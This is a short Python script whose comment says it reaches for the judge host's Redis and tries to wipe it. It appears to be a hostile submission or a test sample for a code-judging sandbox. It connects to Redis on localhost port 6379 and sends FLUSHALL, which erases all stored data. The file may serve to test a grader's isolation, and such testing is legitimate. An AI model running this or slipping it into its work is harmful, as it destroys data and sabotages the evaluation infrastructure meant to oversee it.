# Reaches for the judge host's Redis and tries to wipe it.
import socket

s = socket.create_connection(("127.0.0.1", 6379), timeout=2)
s.sendall(b"FLUSHALL\r\n")
print(s.recv(100))
